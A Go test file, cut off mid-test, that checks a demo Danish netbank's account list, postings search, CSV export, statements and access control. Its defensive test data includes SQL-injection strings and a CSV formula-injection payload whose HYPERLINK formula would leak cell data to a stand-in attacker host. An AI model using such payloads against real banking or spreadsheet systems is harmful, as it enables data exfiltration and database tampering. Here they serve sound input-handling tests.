package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"html"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/netbank/netbank"
	"github.com/netbank/netbank/app"
	"github.com/netbank/netbank/auth"
	"github.com/netbank/netbank/demo"
	"github.com/netbank/netbank/dk"
	"github.com/netbank/netbank/identity"
	"github.com/netbank/netbank/internal/testkit"
	"github.com/netbank/netbank/ledger"
)

// The accounts pages on the demo bank: three months of history on the
// demo accounts, the test clock at 21.11.2026 14.05.09 (Copenhagen).

const (
	metteSalary  = demo.Reg + "-0004410001" // Mette's Lønkonto, overdraft 5.000 kr.
	metteSavings = demo.Reg + "-0004410002"
	larsBudget   = demo.Reg + "-0004420001" // another customer's account
	bizAccount   = demo.Reg + "-0004510001"
	bizTax       = demo.Reg + "-0004510002"
)

var cph = func() *time.Location {
	l, err := time.LoadLocation("Europe/Copenhagen")
	if err != nil {
		panic(err)
	}
	return l
}()

// demoBank is the demo bank served over HTTP, with demo.json's logins.
type demoBank struct {
	*testBank
	creds demo.Credentials
}

func newDemoBank(t *testing.T) *demoBank {
	t.Helper()
	clock := testkit.NewClock(loginTestTime)
	logs := &testkit.LogBuffer{}
	dir := t.TempDir()
	a, err := app.New(context.Background(), app.Config{DataDir: dir, Demo: true, Clock: clock,
		Logger:   slog.New(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug})),
		Identity: identity.Config{RateLimit: 100000}})
	if err != nil {
		t.Fatalf("app.New: %v", err)
	}
	t.Cleanup(a.Close)
	ts := httptest.NewServer(a.Handler)
	t.Cleanup(ts.Close)
	b := &demoBank{testBank: &testBank{t: t, app: a, clock: clock, url: ts.URL, logs: logs}}
	data, err := os.ReadFile(filepath.Join(dir, "demo.json"))
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(data, &b.creds); err != nil {
		t.Fatal(err)
	}
	return b
}

// private logs in the demo private user called name (first login with
// the PIN letter of demo.json) and returns the browser.
func (b *demoBank) private(name string) *browserClient {
	b.t.Helper()
	for _, u := range b.creds.Users {
		if u.Name == name {
			c := b.client()
			c.firstLogin(u.UserNumber, u.PINCode)
			return c
		}
	}
	b.t.Fatalf("no demo user %q", name)
	return nil
}

// business logs in a business user with password and key card.
func (b *demoBank) business(login, password string, card auth.KeyCard) *browserClient {
	b.t.Helper()
	c := b.client()
	p, _, _ := c.businessLogin(login, password, card)
	if p.StatusCode != http.StatusSeeOther || p.Header.Get("Location") != "/netbank" {
		b.t.Fatalf("business login %s: %d %q\n%s", login, p.StatusCode, p.Header.Get("Location"), p.Text())
	}
	return c
}

func (b *demoBank) demoBusiness(login string) *browserClient {
	b.t.Helper()
	for _, u := range b.creds.BusinessUsers {
		if u.UserID == login {
			return b.business(login, u.Password, auth.KeyCard{Codes: u.KeyCard})
		}
	}
	b.t.Fatalf("no demo business user %q", login)
	return nil
}

func (b *demoBank) balance(id string) ledger.Balance {
	b.t.Helper()
	bal, err := b.app.Ledger.Balance(context.Background(), id)
	if err != nil {
		b.t.Fatal(err)
	}
	return bal
}

func (b *demoBank) balanceAt(id string, at time.Time) int64 {
	b.t.Helper()
	bal, err := b.app.Ledger.BalanceAt(context.Background(), id, at)
	if err != nil {
		b.t.Fatal(err)
	}
	return bal
}

// entries are the ledger's entries of the account in [from, to), oldest
// first, read with Statement (not the search the pages use).
func (b *demoBank) entries(id string, from, to time.Time) []ledger.Entry {
	b.t.Helper()
	var out []ledger.Entry
	var after int64
	for {
		st, err := b.app.Ledger.Statement(context.Background(), id, from, to, after, 100)
		if err != nil {
			b.t.Fatal(err)
		}
		out = append(out, st.Entries...)
		if st.Next == 0 {
			return out
		}
		after = st.Next
	}
}

// noErrorsLogged fails if the bank logged an internal error (a 500).
func (b *demoBank) noErrorsLogged() {
	b.t.Helper()
	if strings.Contains(b.logs.String(), "level=ERROR") {
		b.t.Errorf("the bank logged errors:\n%s", b.logs.String())
	}
}

func kr(minor int64) string { return netbank.NewMoney(minor, "DKK").String() }

func signedAmount(minor int64) string {
	s := netbank.FormatAmount(minor, 2)
	if minor > 0 {
		s = "+" + s
	}
	return s
}

// posting is one row of a postings table as the page shows it.
type posting struct {
	Credit                          bool
	ISODate, Date, Text             string
	Amount, Balance                 string
	AmountNegative, BalanceNegative bool
}

var postingRE = regexp.MustCompile(`(?s)<tr class="posting (posting-credit|posting-debit)">\s*<td class="acc-col-date"><time datetime="([^"]+)">([^<]+)</time></td>\s*` +
	`<td class="posting-text">([^<]*)</td>\s*<td[^>]*><span class="amount( amount-negative)?">([^<]+)</span></td>\s*` +
	`<td[^>]*><span class="amount( amount-negative)?">([^<]+)</span></td>`)

func postingsOf(body string) []posting {
	var out []posting
	for _, m := range postingRE.FindAllStringSubmatch(body, -1) {
		out = append(out, posting{Credit: m[1] == "posting-credit", ISODate: m[2], Date: m[3], Text: html.UnescapeString(m[4]),
			AmountNegative: m[5] != "", Amount: html.UnescapeString(m[6]), BalanceNegative: m[7] != "", Balance: html.UnescapeString(m[8])})
	}
	return out
}

// wantPostings compares a page's rows with ledger entries (newest first).
func wantPostings(t *testing.T, got []posting, want []ledger.Entry) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("%d postings on the page, want %d", len(got), len(want))
	}
	for i, e := range want {
		g := got[i]
		w := posting{Credit: e.Amount > 0, ISODate: e.PostedAt.In(cph).Format("2006-01-02"), Date: e.PostedAt.In(cph).Format("02.01.2006"),
			Text: e.Text, Amount: signedAmount(e.Amount), Balance: netbank.FormatAmount(e.Balance, 2),
			AmountNegative: e.Amount < 0, BalanceNegative: e.Balance < 0}
		if g != w {
			t.Fatalf("posting %d = %+v, want %+v", i, g, w)
		}
	}
}

func newestFirst(es []ledger.Entry) []ledger.Entry {
	out := make([]ledger.Entry, len(es))
	for i, e := range es {
		out[len(es)-1-i] = e
	}
	return out
}

func wantStatus(t *testing.T, p httpPage, status int) {
	t.Helper()
	if p.StatusCode != status {
		t.Fatalf("status %d, want %d:\n%s", p.StatusCode, status, p.Text())
	}
}

// The default period: the last three months up to today (21.11.2026).
var (
	defaultFrom = time.Date(2026, 8, 21, 0, 0, 0, 0, cph)
	defaultTo   = time.Date(2026, 11, 22, 0, 0, 0, 0, cph)
)

// RULE PAY-2: the accounts are shown with reg + account number ("9070
// 0004410001"), the IBAN in groups of four, balance, available amount and
// the overdraft limit, equal to the ledger's; the overview shows them first.
func TestAccountsList(t *testing.T) {
	b := newDemoBank(t)
	c := b.private("Mette Kjær Nielsen")
	p := c.get("/netbank/konti")
	wantStatus(t, p, http.StatusOK)
	salary, savings := b.balance(metteSalary), b.balance(metteSavings)
	if salary.Overdraft != 5_000_00 || salary.Posted <= 0 || savings.Overdraft != 0 {
		t.Fatalf("demo balances: %+v %+v", salary, savings)
	}
	iban1, _ := dk.DanishIBAN("9070", "0004410001")
	iban2, _ := dk.DanishIBAN("9070", "0004410002")
	wantText(t, p, "Konti", "Lønkonto", "Opsparing", "Opsparingskonto",
		"9070 0004410001", "9070 0004410002", "IBAN "+dk.FormatIBAN(iban1), "IBAN "+dk.FormatIBAN(iban2),
		"Saldo", "Disponibelt", "Trækningsret",
		kr(salary.Posted), kr(salary.Available), "5.000,00 kr.", kr(savings.Posted),
		"I alt "+kr(salary.Posted+savings.Posted)+" "+kr(salary.Available+savings.Available))
	if !strings.Contains(dk.FormatIBAN(iban1), " ") || !strings.HasPrefix(iban1, "DK") {
		t.Errorf("IBAN %q / %q", iban1, dk.FormatIBAN(iban1))
	}
	// No overdraft on the savings account: a dash, not "0,00 kr.".
	row := attr(t, p.Body, `(?s)(<tr class="acc-row" data-account="`+metteSavings+`">.*?</tr>)`)
	if !strings.Contains(row, `<td class="num acc-overdraft" data-label="Trækningsret"><span class="acc-none" aria-label="Ingen trækningsret">–</span></td>`) {
		t.Errorf("savings row:\n%s", row)
	}
	// Only Mette's accounts.
	if strings.Contains(p.Body, "0004420001") || strings.Contains(p.Body, "Budgetkonto") {
		t.Error("the list shows another customer's account")
	}
	if !strings.Contains(p.Body, `href="/netbank/konti/`+metteSalary+`"`) {
		t.Error("no link to the account")
	}

	// The overview: the accounts first, and "Konti" in the menu.
	o := c.get("/netbank")
	wantStatus(t, o, http.StatusOK)
	wantText(t, o, "Dine konti", "Lønkonto 9070 0004410001", kr(salary.Posted), kr(salary.Available), "Opsparing 9070 0004410002",
		"Se alle konti og posteringer")
	if !strings.Contains(o.Body, `<a href="/netbank/konti" id="nav-accounts">Konti</a>`) {
		t.Error("no Konti in the overview's menu")
	}
	if i, j := strings.Index(o.Body, `id="overview-accounts"`), strings.Index(o.Body, `id="customer-heading"`); i < 0 || j < 0 || i > j {
		t.Error("the accounts are not at the top of the overview")
	}

	// A negative balance is marked: sign and class.
	_, err := b.app.Ledger.Transfer(context.Background(), ledger.TransferRequest{ID: "overdraw", DebitAccountID: metteSalary,
		CreditAccountID: ledger.InternalAccountID(ledger.KindInterbankClearing, "DKK"), Amount: salary.Posted + 1_234_56,
		Code: "payment", Text: "Ny bil"})
	if err != nil {
		t.Fatal(err)
	}
	p = c.get("/netbank/konti")
	if !strings.Contains(p.Body, `<span class="amount amount-negative">-1.234,56 kr.</span>`) {
		t.Errorf("negative balance not marked:\n%s", attr(t, p.Body, `(?s)(<tr class="acc-row" data-account="`+metteSalary+`">.*?</tr>)`))
	}

	// In English.
	c.http.Jar.SetCookies(mustURL(t, b.url), []*http.Cookie{{Name: "lang", Value: "en"}})
	wantText(t, c.get("/netbank/konti"), "Accounts", "Balance", "Available", "Overdraft limit", "9070 0004410001")
	b.noErrorsLogged()
}

// The postings of an account, newest first, with the running balance of the
// ledger, paged with "Vis flere"; the period's opening and closing balances.
func TestAccountPostings(t *testing.T) {
	b := newDemoBank(t)
	c := b.private("Mette Kjær Nielsen")
	all := newestFirst(b.entries(metteSalary, defaultFrom, defaultTo))
	if len(all) <= 50 {
		t.Fatalf("only %d demo postings in three months", len(all))
	}
	p := c.get("/netbank/konti/" + metteSalary)
	wantStatus(t, p, http.StatusOK)
	// RULE PAY-2: the account's number and IBAN in the heading.
	iban, _ := dk.DanishIBAN("9070", "0004410001")
	wantText(t, p, "Lønkonto", "9070 0004410001", dk.FormatIBAN(iban), "Søg i posteringer", "Fra dato", "Til dato",
		"Tekst indeholder", "Beløb fra", "Beløb til", "Periode 21.08.2026 – 21.11.2026",
		"Saldo primo 21.08.2026 "+kr(b.balanceAt(metteSalary, defaultFrom.Add(-time.Microsecond))),
		"Saldo ultimo 21.11.2026 "+kr(b.balance(metteSalary).Posted), "Dato Tekst Beløb (kr.) Saldo (kr.)")
	if v := attr(t, p.Body, `id="fra" name="fra" value="([^"]*)"`); v != "21.08.2026" {
		t.Errorf("default from %q", v)
	}
	wantPostings(t, postingsOf(p.Body), all[:50])
	if strings.Contains(p.Body, `id="pending-notice"`) {
		t.Error("a reservation is shown where there is none")
	}
	// Credits and debits differ by sign, not only by colour.
	for _, r := range postingsOf(p.Body) {
		if r.Credit != strings.HasPrefix(r.Amount, "+") || !r.Credit != strings.HasPrefix(r.Amount, "-") {
			t.Fatalf("posting without its sign: %+v", r)
		}
	}

	// "Vis flere" through the ledger's cursor until the period is done.
	got := postingsOf(p.Body)
	for pages := 1; ; pages++ {
		m := regexp.MustCompile(`href="([^"]+)" id="more-link"`).FindStringSubmatch(p.Body)
		if m == nil {
			break
		}
		if pages > 10 {
			t.Fatal("too many pages")
		}
		p = c.get(html.UnescapeString(m[1]))
		wantStatus(t, p, http.StatusOK)
		wantText(t, p, "Du ser ældre posteringer.")
		got = append(got, postingsOf(p.Body)...)
	}
	wantPostings(t, got, all)
	b.noErrorsLogged()
}

// Searching by text, amount and period narrows the postings correctly.
//
// RULE PAY-7 (the account's part): the history of an account can be
// searched. Searching payments and incoming SWIFT payments comes with the
// payments.
func TestAccountSearch(t *testing.T) {
	b := newDemoBank(t)
	c := b.private("Mette Kjær Nielsen")
	all := newestFirst(b.entries(metteSalary, defaultFrom, defaultTo))
	filter := func(keep func(ledger.Entry) bool) []ledger.Entry {
		var out []ledger.Entry
		for _, e := range all {
			if keep(e) {
				out = append(out, e)
			}
		}
		return out
	}
	search := func(q url.Values) httpPage {
		t.Helper()
		p := c.get("/netbank/konti/" + metteSalary + "?" + q.Encode())
		wantStatus(t, p, http.StatusOK)
		return p
	}

	// Text, ignoring case: the three rents of the period.
	p := search(url.Values{"tekst": {"husleje"}})
	rents := filter(func(e ledger.Entry) bool { return strings.Contains(e.Text, "Husleje") })
	if len(rents) != 3 {
		t.Fatalf("%d rents in the demo period", len(rents))
	}
	wantPostings(t, postingsOf(p.Body), rents)
	wantText(t, p, "Saldo er kontoens saldo efter hver postering")
	if v := attr(t, p.Body, `id="tekst" name="tekst" type="search" value="([^"]*)"`); v != "husleje" {
		t.Errorf("the text is not kept in the form: %q", v)
	}
	// Unicode case: "ØRSTED" finds "BS Ørsted …".
	wantPostings(t, postingsOf(search(url.Values{"tekst": {"ØRSTED"}}).Body),
		filter(func(e ledger.Entry) bool { return strings.Contains(e.Text, "Ørsted") }))

	// Exact amount (Danish format, without sign): the rent of 9.850,00.
	wantPostings(t, postingsOf(search(url.Values{"beloeb_fra": {"9.850,00"}, "beloeb_til": {"9850"}}).Body), rents)
	// A range, without sign: 100–200 kr., debits and credits.
	inRange := filter(func(e ledger.Entry) bool { a := max(e.Amount, -e.Amount); return a >= 100_00 && a <= 200_00 })
	if len(inRange) == 0 {
		t.Fatal("no demo postings of 100–200 kr.")
	}
	wantPostings(t, postingsOf(search(url.Values{"beloeb_fra": {"100"}, "beloeb_til": {"200,00 kr."}}).Body), inRange)
	// With a minus: only debits from -200 up to -100.
	wantPostings(t, postingsOf(search(url.Values{"beloeb_fra": {"-200"}, "beloeb_til": {"-100"}}).Body),
		filter(func(e ledger.Entry) bool { return e.Amount >= -200_00 && e.Amount <= -100_00 }))
	// Only a lower bound: the salaries and the rents (and nothing smaller).
	wantPostings(t, postingsOf(search(url.Values{"beloeb_fra": {"5.000"}}).Body),
		filter(func(e ledger.Entry) bool { return e.Amount >= 5_000_00 || e.Amount <= -5_000_00 }))

	// A period: October (both date formats), with its own balances.
	octFrom, octTo := time.Date(2026, 10, 1, 0, 0, 0, 0, cph), time.Date(2026, 11, 1, 0, 0, 0, 0, cph)
	october := newestFirst(b.entries(metteSalary, octFrom, octTo))
	for _, q := range []url.Values{{"fra": {"01.10.2026"}, "til": {"31.10.2026"}}, {"fra": {"2026-10-01"}, "til": {"2026-10-31"}}} {
		p = search(q)
		got := postingsOf(p.Body)
		if len(october) <= 50 {
			wantPostings(t, got, october)
		} else {
			wantPostings(t, got, october[:50])
		}
		for _, r := range got {
			if !strings.HasSuffix(r.Date, ".10.2026") {
				t.Fatalf("posting outside October: %+v", r)
			}
		}
		wantText(t, p, "Periode 01.10.2026 – 31.10.2026",
			"Saldo primo 01.10.2026 "+kr(b.balanceAt(metteSalary, octFrom.Add(-time.Microsecond))),
			"Saldo ultimo 31.10.2026 "+kr(b.balanceAt(metteSalary, octTo.Add(-time.Microsecond))))
	}
	// Period and text together.
	wantPostings(t, postingsOf(search(url.Values{"fra": {"01.10.2026"}, "til": {"31.10.2026"}, "tekst": {"Husleje"}}).Body),
		filter(func(e ledger.Entry) bool {
			return strings.Contains(e.Text, "Husleje") && e.PostedAt.In(cph).Month() == time.October
		}))

	// Nothing found: said so.
	p = search(url.Values{"tekst": {"ikke-en-postering"}})
	wantText(t, p, "Ingen posteringer passer til søgningen.")
	// SQL-looking input is only text.
	for _, s := range []string{"' OR '1'='1", "x'; DROP TABLE ledger_entries; --", "%", "_"} {
		p = search(url.Values{"tekst": {s}})
		if len(postingsOf(p.Body)) != 0 {
			t.Errorf("%q found postings", s)
		}
		if v := attr(t, p.Body, `id="tekst" name="tekst" type="search" value="([^"]*)"`); v != s {
			t.Errorf("form shows %q for %q", v, s)
		}
	}
	wantPostings(t, postingsOf(search(url.Values{"tekst": {"Husleje"}}).Body), rents) // the table is still there

	// A reservation (a card hold) is shown above the postings.
	if _, err := b.app.Ledger.Transfer(context.Background(), ledger.TransferRequest{ID: "hold-1", Kind: ledger.PendingKind,
		DebitAccountID: metteSalary, CreditAccountID: ledger.InternalAccountID(ledger.KindCardSettlement, "DKK"), Amount: 249_95,
		Code: "card", Text: "Visa/Dankort Netto"}); err != nil {
		t.Fatal(err)
	}
	p = search(nil)
	wantText(t, p, "Reserveret -249,95 kr.", "Reserveret: -249,95 kr. Beløbet er reserveret", "Disponibelt "+kr(b.balance(metteSalary).Available))
	wantText(t, c.get("/netbank/konti"), "heraf reserveret 249,95 kr.")
	b.noErrorsLogged()
}

// Bad input gets Danish messages (400), never a 500.
func TestAccountSearchBadInput(t *testing.T) {
	b := newDemoBank(t)
	c := b.private("Mette Kjær Nielsen")
	long := strings.Repeat("Husleje ", 1280) // 10 kB
	for _, tc := range []struct {
		q    url.Values
		want []string
	}{
		{url.Values{"fra": {"01.11.2026"}, "til": {"01.10.2026"}}, []string{"Til-datoen ligger før fra-datoen."}},
		{url.Values{"fra": {"31.02.2026"}}, []string{"Fra-datoen skal skrives som dd.mm.åååå"}},
		{url.Values{"til": {"i går"}}, []string{"Til-datoen skal skrives som dd.mm.åååå"}},
		{url.Values{"fra": {"01.01.2010"}, "til": {"01.01.2026"}}, []string{"Perioden må højst være 5 år."}},
		{url.Values{"fra": {"01.12.2026"}}, []string{"Fra-datoen ligger efter i dag."}},
		{url.Values{"beloeb_fra": {"mange penge"}}, []string{"Beløb fra: Beløbet skal skrives som et tal, f.eks. 1.234,56"}},
		{url.Values{"beloeb_til": {"1234.56"}}, []string{"Beløb til: Brug komma som decimaltegn"}},
		{url.Values{"beloeb_fra": {"500"}, "beloeb_til": {"100"}}, []string{"Beløb fra er større end beløb til."}},
		{url.Values{"tekst": {long}}, []string{"Et af felterne er for langt."}},
		{url.Values{"tekst": {strings.Repeat("æ", 141)}}, []string{"Søgeteksten må højst være 140 tegn."}},
		{url.Values{"beloeb_fra": {strings.Repeat("9", 5000)}}, []string{"Et af felterne er for langt."}},
	} {
		for _, path := range []string{"/netbank/konti/" + metteSalary, "/netbank/konti/" + metteSalary + "/eksport.csv"} {
			p := c.get(path + "?" + tc.q.Encode())
			if p.StatusCode != http.StatusBadRequest {
				t.Errorf("%s?%v: status %d", path, tc.q, p.StatusCode)
				continue
			}
			wantText(t, p, append([]string{"Søgningen kan ikke udføres"}, tc.want...)...)
			if len(p.Body) > 60_000 {
				t.Errorf("%v: the page echoes the input (%d bytes)", tc.q, len(p.Body))
			}
			if len(postingsOf(p.Body)) != 0 || strings.Contains(p.Header.Get("Content-Type"), "csv") {
				t.Errorf("%v: postings despite the error", tc.q)
			}
		}
	}
	// The statement checks its period too.
	p := c.get("/netbank/konti/" + metteSalary + "/kontoudtog?fra=30.09.2026&til=01.09.2026")
	wantStatus(t, p, http.StatusBadRequest)
	wantText(t, p, "Til-datoen ligger før fra-datoen.")
	// A garbage cursor is ignored; invalid UTF-8 is dropped.
	wantStatus(t, c.get("/netbank/konti/"+metteSalary+"?foer=abc"), http.StatusOK)
	wantStatus(t, c.get("/netbank/konti/"+metteSalary+"?foer=-5&tekst=%ff%fe"), http.StatusOK)
	// In English.
	c.http.Jar.SetCookies(mustURL(t, b.url), []*http.Cookie{{Name: "lang", Value: "en"}})
	p = c.get("/netbank/konti/" + metteSalary + "?beloeb_fra=abc")
	wantStatus(t, p, http.StatusBadRequest)
	wantText(t, p, "The search cannot be made", "Amount from: Write the amount as a number")
	b.noErrorsLogged()
}

// The CSV export: Danish Excel (BOM, semicolons, comma decimals, dd-mm-åååå),
// the same postings as the search, formula injection neutralised.
func TestAccountCSV(t *testing.T) {
	b := newDemoBank(t)
	c := b.private("Mette Kjær Nielsen")
	ctx := context.Background()
	clearing := ledger.InternalAccountID(ledger.KindInterbankClearing, "DKK")
	for i, text := range []string{`=HYPERLINK("http://evil.example/?x="&A1;"Klik")`, "+45 20 45 67 89", "-2+3", "@SUM(A1:A9)", "Pizza; 2 stk. \"Margherita\""} {
		if _, err := b.app.Ledger.Transfer(ctx, ledger.TransferRequest{ID: "csv-" + string(rune('a'+i)), DebitAccountID: clearing,
			CreditAccountID: metteSalary, Amount: int64(1_000_00 + i), Code: "incoming", Text: text}); err != nil {
			t.Fatal(err)
		}
	}
	p := c.get("/netbank/konti/" + metteSalary + "/eksport.csv")
	wantStatus(t, p, http.StatusOK)
	if ct := p.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type %q", ct)
	}
	if cd := p.Header.Get("Content-Disposition"); cd != `attachment; filename="posteringer-9070-0004410001-2026-08-21-2026-11-21.csv"` {
		t.Errorf("Content-Disposition %q", cd)
	}
	if cc := p.Header.Get("Cache-Control"); cc != "no-store" {
		t.Errorf("Cache-Control %q", cc) // RULE SESS-3
	}
	if !strings.HasPrefix(p.Body, "\ufeffDato;Tekst;Beløb;Saldo\r\n") {
		t.Fatalf("no BOM and header: %q", p.Body[:min(60, len(p.Body))])
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(p.Body, "\ufeff")))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	all := newestFirst(b.entries(metteSalary, defaultFrom, defaultTo))
	if len(rows) != len(all)+1 {
		t.Fatalf("%d rows, want %d postings + header", len(rows), len(all))
	}
	for i, e := range all {
		want := []string{e.PostedAt.In(cph).Format("02-01-2006"), e.Text, strings.ReplaceAll(netbank.FormatAmount(e.Amount, 2), ".", ""),
			strings.ReplaceAll(netbank.FormatAmount(e.Balance, 2), ".", "")}
		if strings.ContainsAny(e.Text[:1], "=+-@") {
			want[1] = "'" + e.Text
		}
		if strings.Join(rows[i+1], "|") != strings.Join(want, "|") {
			t.Fatalf("row %d = %q, want %q", i+1, rows[i+1], want)
		}
	}
	for _, line := range []string{
		`21-11-2026;"'=HYPERLINK(""http://evil.example/?x=""&A1;""Klik"")";1000,00;`,
		`21-11-2026;'+45 20 45 67 89;1000,01;`,
		`21-11-2026;'-2+3;1000,02;`,
		`21-11-2026;'@SUM(A1:A9);1000,03;`,
		`21-11-2026;"Pizza; 2 stk. ""Margherita""";1000,04;`,
	} {
		if !strings.Contains(p.Body, "\r\n"+line) {
			t.Errorf("CSV lacks a line starting %s", line)
		}
	}
	// Negative amounts with a minus and comma decimals; no thousands dots.
	if !regexp.MustCompile(`\r\n\d\d-\d\d-2026;Husleje Boligforeningen AAB;-9850,00;-?\d+,\d\d\r\n`).MatchString(p.Body) {
		t.Error("the rent is not in Danish number format")
	}

	// The same filters as the page.
	p = c.get("/netbank/konti/" + metteSalary + "/eksport.csv?" + url.Values{"tekst": {"husleje"}, "fra": {"01.10.2026"}, "til": {"30.11.2026"}}.Encode())
	wantStatus(t, p, http.StatusOK)
	if n := strings.Count(p.Body, "\r\n"); n != 3 || !strings.Contains(p.Header.Get("Content-Disposition"), "-2026-10-01-2026-11-21.csv") { // the period ends today
		t.Errorf("filtered CSV: %d lines, %q\n%s", n, p.Header.Get("Content-Disposition"), p.Body)
	}
	// The page links to the export with its filters.
	pg := c.get("/netbank/konti/" + metteSalary + "?tekst=husleje")
	if href := attr(t, pg.Body, `href="([^"]+)" id="export-csv"`); href != "/netbank/konti/"+metteSalary+"/eksport.csv?fra=21.08.2026&tekst=husleje&til=21.11.2026" {
		t.Errorf("export link %q", href)
	}
	b.noErrorsLogged()
}

// The statement (kontoudtog) for a period: opening and closing balances
// equal the ledger's balance at the period's bounds, every posting with its
// running balance, the totals in and out.
func TestAccountStatement(t *testing.T) {
	b := newDemoBank(t)
	c := b.private("Mette Kjær Nielsen")
	from, to := time.Date(2026, 9, 1, 0, 0, 0, 0, cph), time.Date(2026, 10, 1, 0, 0, 0, 0, cph)
	p := c.get("/netbank/konti/" + metteSalary + "/kontoudtog?fra=01.09.2026&til=30.09.2026")
	wantStatus(t, p, http.StatusOK)
	opening, closing := b.balanceAt(metteSalary, from.Add(-time.Microsecond)), b.balanceAt(metteSalary, to.Add(-time.Microsecond))
	entries := b.entries(metteSalary, from, to)
	var in, out int64
	for _, e := range entries {
		if e.Amount > 0 {
			in += e.Amount
		} else {
			out += e.Amount
		}
	}
	if opening+in+out != closing || len(entries) < 30 {
		t.Fatalf("ledger: %d + %d + %d != %d (%d entries)", opening, in, out, closing, len(entries))
	}
	// RULE PAY-2: the statement names the account by reg + account number.
	iban, _ := dk.DanishIBAN("9070", "0004410001")
	wantText(t, p, "Netbank", "Reg.nr. 9070", "Mette Kjær Nielsen", "Vestergade 12, 2. th.", "8000 Aarhus C",
		"Konto Lønkonto Reg.nr. og kontonr. 9070 0004410001", "IBAN "+dk.FormatIBAN(iban), "Periode 01.09.2026 – 30.09.2026",
		"Kontoudtog 01.09.2026 – 30.09.2026", "Udskrevet 21.11.2026 kl. 14.05",
		"01.09.2026 Primosaldo "+kr(opening), "30.09.2026 Ultimosaldo "+kr(closing),
		"Indbetalinger i alt "+kr(in), "Udbetalinger i alt "+kr(out), "Antal posteringer "+itoa(int64(len(entries))))
	// Every posting, oldest first, with the running balance.
	got := postingsOf(p.Body)
	wantPostings(t, got, entries)
	if got[0].Balance != netbank.FormatAmount(entries[0].Balance, 2) {
		t.Error("running balance")
	}
	// Printing: a button wired by a script file, no inline code.
	if !strings.Contains(p.Body, `id="print" data-print hidden>Udskriv</button>`) || !regexp.MustCompile(`<script src="/static/accounts\.[0-9a-f]{8}\.js" defer></script>`).MatchString(p.Body) {
		t.Error("no print button with accounts.js")
	}
	for _, bad := range []string{" onclick=", " style=", "<script>", "javascript:"} {
		if strings.Contains(p.Body, bad) {
			t.Errorf("statement contains %q", bad)
		}
	}
	// Without a period: the last three months.
	p = c.get("/netbank/konti/" + metteSalary + "/kontoudtog")
	wantStatus(t, p, http.StatusOK)
	wantText(t, p, "Periode 21.08.2026 – 21.11.2026", "Ultimosaldo "+kr(b.balance(metteSalary).Posted))
	// The account page links to the statement of its period.
	pg := c.get("/netbank/konti/" + metteSalary + "?fra=01.09.2026&til=30.09.2026&tekst=x")
	if href := attr(t, pg.Body, `href="([^"]+)" id="statement-link"`); href != "/netbank/konti/"+metteSalary+"/kontoudtog?fra=01.09.2026&til=30.09.2026" {
		t.Errorf("statement link %q", href)
	}
	// A period that ends in the future ends today.
	p = c.get("/netbank/konti/" + metteSalary + "/kontoudtog?fra=01.11.2026&til=31.12.2026")
	wantStatus(t, p, http.StatusOK)
	wantText(t, p, "Periode 01.11.2026 – 21.11.2026", "21.11.2026 Ultimosaldo "+kr(b.balance(metteSalary).Posted))
	// A period without postings still has its balances.
	p = c.get("/netbank/konti/" + metteSalary + "/kontoudtog?fra=01.01.2025&til=31.01.2025")
	wantStatus(t, p, http.StatusOK)
	wantText(t, p, "Primosaldo 0,00 kr.", "Der er ingen posteringer i perioden.", "Ultimosaldo 0,00 kr.")
	b.noErrorsLogged()
}

// Only the customer's own accounts: another customer's account is "not
// found" on every page; logged out, the pages go to the login.
//
// RULE BIZ-5: a business user needs "see" in the profile.
func TestAccountAccess(t *testing.T) {
	b := newDemoBank(t)
	mette := b.private("Mette Kjær Nielsen")
	for _, path := range []string{"/netbank/konti/" + larsBudget, "/netbank/konti/" + larsBudget + "/eksport.csv",
		"/netbank/konti/" + larsBudget + "/kontoudtog", "/netbank/konti/" + bizAccount, "/netbank/konti/9070-9999999999",
		"/netbank/konti/" + ledger.InternalAccountID(ledger.KindSettlement, "DKK"), "/netbank/konti/" + strings.Repeat("9", 200),
		"/netbank/konti/%27%20OR%201%3D1"} {
		p := mette.get(path)
		if p.StatusCode != http.StatusNotFound || strings.Contains(p.Body, "Budgetkonto") || strings.Contains(p.Text(), "Lars") {
			t.Errorf("%s: %d\n%s", path, p.StatusCode, p.Text())
		}
	}

	// Lars sees his own, not Mette's.
	lars := b.private("Lars Bo Jensen")
	wantStatus(t, lars.get("/netbank/konti/"+larsBudget), http.StatusOK)
	wantStatus(t, lars.get("/netbank/konti/"+metteSalary), http.StatusNotFound)

	// Business: a profile with "see" (the auditor) sees the company's accounts.
	revisor := b.demoBusiness("revisor")
	p := revisor.get("/netbank/konti")
	wantStatus(t, p, http.StatusOK)
	wantText(t, p, "Erhvervskonto", "9070 0004510001", "Skattekonto", "9070 0004510002", kr(b.balance(bizAccount).Posted), "50.000,00 kr.")
	wantStatus(t, revisor.get("/netbank/konti/"+bizTax+"/kontoudtog"), http.StatusOK)
	wantStatus(t, revisor.get("/netbank/konti/"+metteSalary), http.StatusNotFound)

	// A business user without "see": 403 everywhere, and no accounts on
	// the overview nor in its menu.
	ctx := context.Background()
	found, err := b.app.Identity.FindCustomers(ctx, "25313763", 1)
	if err != nil || len(found) != 1 {
		t.Fatalf("demo business: %v %v", found, err)
	}
	_, password, card, err := b.app.Identity.CreateBusinessUser(ctx, found[0].ID, "kun.opret", "Kim Opret",
		[]identity.Permission{identity.PermCreate}, identity.System)
	if err != nil {
		t.Fatal(err)
	}
	blind := b.business("kun.opret", password, card)
	for _, path := range []string{"/netbank/konti", "/netbank/konti/" + bizAccount, "/netbank/konti/" + bizAccount + "/eksport.csv",
		"/netbank/konti/" + bizAccount + "/kontoudtog"} {
		p := blind.get(path)
		if p.StatusCode != http.StatusForbidden || strings.Contains(p.Body, "Erhvervskonto") {
			t.Errorf("%s without view: %d", path, p.StatusCode)
		}
	}
	o := blind.get("/netbank")
	wantStatus(t, o, http.StatusOK)
	if strings.Contains(o.Body, "/netbank/konti") || strings.Contains(o.Body, "Dine konti") {
		t.Error("the overview shows accounts to a user without view")
	}

	// Logged out: to the login page.
	anon := b.client()
